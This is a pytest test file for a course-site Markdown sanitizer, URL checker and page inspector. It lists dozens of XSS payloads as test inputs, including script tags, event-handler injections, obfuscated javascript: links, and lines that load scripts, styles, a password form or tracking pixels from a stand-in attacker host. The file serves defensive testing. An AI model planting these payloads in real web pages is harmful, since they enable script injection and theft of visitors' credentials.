"""Nothing unsafe gets through, however it is written."""

from __future__ import annotations

import re

import pytest

from coursekit.website.extension.sanitizing import is_safe_url
from coursekit.website.inspecting import find_unsafe

pytestmark = pytest.mark.unit

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='//evil.example/'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password></form>",
    "<object data='javascript:alert(1)'></object>",
    "<!--><script>alert(1)</script>-->",
    "<scr<!-- x -->ipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](\\\\evil.example\\pixel.gif)",
    "[x](a.md){: onclick=alert(1) }",
    "[x](a.md){: style='background:url(//evil.example)' }",
    "Text\n{: onmouseover='alert(1)' }",
    "# Heading {: onclick=alert(1) }",
    "*x*{: onfocus=alert(1) autofocus=1 tabindex=1 }",
    "[x](a.md){: formaction=javascript:alert(1) }",
    "| a |\n| --- |\n| <script>alert(1)</script> |",
    "> **Mori:** <img src=x onerror=alert(1)>",
    "- **Do:** <script>alert(1)</script>",
    '!!! plan "<script>alert(1)</script>"\n    x',
    "## <img src=x onerror=alert(1)>",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "::: quiz <script>alert(1)</script>",
    '::: objectives "><script>alert(1)</script>',
    "[@Key<script>]",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_a_page_that_does_nothing(convert, attack):
    html = convert(attack, path="01-leaves.md")
    assert find_unsafe(html) == []
    assert not re.search(r"<(script|style|iframe|object|embed|svg|form|meta|base)\b", html, re.IGNORECASE)


def test_links_and_classes_of_honest_authors_stay(convert):
    html = convert("[x](https://example.org/a?b=1&c=2){: .more } <mail@example.org>\n{: #here .note lang=ja }")
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html
    assert 'class="more"' in html
    assert '<p class="note" id="here" lang="ja">' in html
    assert "mailto" in html or "&#109;&#97;" in html


def test_ids_of_the_theme_cannot_be_taken(convert):
    assert 'id="__search"' not in convert("Text\n{: #__search }")


@pytest.mark.parametrize(
    "url", ["a.md", "#x", "/a", "../a", "https://a.example", "http://a", "mailto:a@b", "tel:+81", "//a"]
)
def test_addresses_that_lead_somewhere_are_safe(url):
    assert is_safe_url(url)


@pytest.mark.parametrize(
    "url", ["javascript:1", " javascript:1", "java\nscript:1", "data:,x", "blob:x", "file:///etc", "&#x6a;avascript:1"]
)
def test_addresses_that_do_something_are_not(url):
    assert not is_safe_url(url)


@pytest.mark.parametrize(
    ("page", "complaint"),
    [
        ("<script>1</script>", "inline script"),
        ("<SCRIPT type=module>1</SCRIPT>", "inline script"),
        ('<p><a onclick="x">z</a></p>', "onclick= on <a>"),
        ("<svg/onload=x>", "onload= on <svg>"),
        ("<p title='a'onmouseover=x>", "onmouseover= on <p>"),
        ('<a href="javascript:y">z</a>', "href='javascript:y' on <a>"),
        ('<a href = " javascript:y">z</a>', "href=' javascript:y' on <a>"),
        ('<img src="https://evil.example/x">', "src='https://evil.example/x' on <img>"),
        ('<script src="//evil.example/x"></script>', "src='//evil.example/x' on <script>"),
        ('<link rel="stylesheet" href="https://evil.example/x">', "href='https://evil.example/x' on <link>"),
        ('<p style="color: red">', "style= on <p>"),
        ("<style>p{}</style>", "<style>"),
        ('<iframe src="x"></iframe>', "<iframe>"),
        ('<base href="/x">', "<base>"),
    ],
)
def test_what_is_planted_in_a_finished_page_is_found(page, complaint):
    assert find_unsafe(f"<p>fine</p>{page}<p>fine</p>") == [complaint]


@pytest.mark.parametrize(
    "page",
    [
        "<p>once = twice; style = taste; onset=3</p>",
        '<link rel="canonical" href="https://course.example/">',
        '<link rel="alternate" hreflang="ja" href="https://course.example/ja/">',
        '<a href="https://creativecommons.org/">x</a>',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    ],
)
def test_what_is_harmless_in_a_finished_page_is_left_alone(page):
    assert find_unsafe(page) == []


def test_data_for_scripts_is_no_script():
    assert find_unsafe('<script id="__config" type="application/json">{"a": "onclick=1"}</script>') == []
